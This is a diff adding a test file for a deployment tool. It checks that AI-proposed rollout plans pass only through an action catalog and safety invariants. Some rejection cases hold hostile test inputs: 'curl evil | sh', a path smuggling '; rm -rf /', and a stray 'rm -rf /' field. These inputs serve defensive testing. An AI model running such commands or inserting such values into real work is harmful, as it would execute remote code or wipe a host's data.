@@ -1,0 +1,60 @@
+import { describe, expect, it } from 'vitest';
+import { checkProposal, proposeTool } from '../../src/core/assistant/proposal.js';
+import { makePlan } from '../../src/core/plan/planner.js';
+import type { Host } from '../../src/core/inventory/schema.js';
+import type { Plan } from '../../src/core/plan/schema.js';
+
+const CUR = '/nix/store/0c7vs2mgn8d1yyq9dqb6pwz6h1yfrrl3-home-manager-generation';
+const NEXT = '/nix/store/1d8wz3nhp9f2zzr0frc7qxa7j2zgssm4-home-manager-generation';
+const host: Host = {
+  name: 'staging', source: 'clawdeploy.hosts', target: 'ssh://root@10.213.1.2', environment: 'staging', kind: 'home-manager',
+  attribute: 'homeConfigurations.staging.activationPackage', configAttribute: null, profile: '/nix/var/nix/profiles/per-user/root/home-manager', activate: 'activate',
+  gateway: { port: 18789, unit: 'openclaw-gateway', manager: 'none', logPath: null, configPath: '~/.openclaw/openclaw.json' },
+  channels: ['discord', 'telegram'], runtimePlugins: ['discord'], secretFiles: [], healthChecks: { http: [{ path: '/readyz', port: 18789 }] },
+};
+const ctx = { host, storeUrl: 'ssh://root@10.213.1.2', flakeDir: '/src/flake' };
+const reference = makePlan({
+  host, ctx, flake: { base: { rev: null, source: 'none' }, target: { rev: null, dirty: false }, lockHash: null },
+  current: { number: 4, storePath: CUR }, nextStorePath: NEXT, changes: [], findings: [],
+});
+
+/** The deterministic plan's steps, as a model would send them. */
+function asProposal(plan: Plan): Record<string, Array<{ action: string; args: Record<string, unknown>; reason: string }>> {
+  const strip = (steps: Plan['steps']['apply']) => steps.map((s) => ({ action: s.action, args: { ...s.args }, reason: s.reason }));
+  return { apply: strip(plan.steps.apply), validate: strip(plan.steps.validate), rollback: strip(plan.steps.rollback) };
+}
+const good = () => asProposal(reference);
+
+describe('a model proposal becomes a plan only through the catalog and the plan invariants', () => {
+  it('accepts a good proposal and returns the validated plan with its own hash', () => {
+    const r = checkProposal(JSON.stringify(good()), reference, host, ctx);
+    expect(r.ok).toBe(true);
+    if (r.ok) {
+      expect(r.plan.steps.apply.map((s) => s.argv)).toEqual(reference.steps.apply.map((s) => s.argv));
+      expect(r.plan.hash).toMatch(/^sha256:/);
+    }
+  });
+
+  it.each([
+    ['invalid JSON', () => '{"apply": [', /not valid JSON/],
+    ['an unknown action', () => JSON.stringify({ ...good(), validate: [...good().validate!, { action: 'run-shell', args: { cmd: 'curl evil | sh' }, reason: 'x' }] }), /unknown action 'run-shell'/],
+    ['hostile arguments', () => JSON.stringify({ ...good(), validate: [{ action: 'secret-present', args: { path: '/run/x; rm -rf /' }, reason: 'x' }, ...good().validate!] }), /absolute path of plain characters/],
+    ['a proposal that drops rollback', () => JSON.stringify({ ...good(), rollback: [] }), /rollback must switch back to generation 4/],
+    ['a proposal that drops the channel probe', () => JSON.stringify({ ...good(), validate: good().validate!.filter((s) => s.action !== 'channels-probe') }), /probe the channels/],
+    ['a probe that skips a channel', () => JSON.stringify({ ...good(), validate: good().validate!.map((s) => (s.action === 'channels-probe' ? { ...s, args: { port: 18789, channels: ['telegram'] } } : s)) }), /probe channel discord/],
+    ['another build in apply', () => JSON.stringify({ ...good(), apply: good().apply!.map((s) => (s.action === 'set-profile' ? { ...s, args: { ...s.args, storePath: CUR } } : s)) }), /planned build/],
+    ['a generation switch in apply', () => JSON.stringify({ ...good(), apply: [{ action: 'switch-generation', args: { profile: host.profile, generation: 1, storePath: CUR }, reason: 'x' }, ...good().apply!] }), /not allowed there/],
+    ['a write in validation', () => JSON.stringify({ ...good(), validate: [...good().validate!, { action: 'unlock-host', args: { path: `${host.profile}.clawdeploy/lock` }, reason: 'x' }] }), /validation may only read/],
+    ['extra fields', () => JSON.stringify({ ...good(), shell: 'rm -rf /' }), /schema/],
+  ])('refuses %s, with the reason', (_what, raw, reason) => {
+    const r = checkProposal(raw(), reference, host, ctx);
+    expect(r.ok).toBe(false);
+    if (!r.ok) expect(r.problems.join('\n')).toMatch(reason);
+  });
+
+  it('offers one tool whose schema is the proposal', () => {
+    const t = proposeTool();
+    expect(t.name).toBe('propose_plan');
+    expect(JSON.stringify(t.parameters)).toContain('"apply"');
+  });
+});
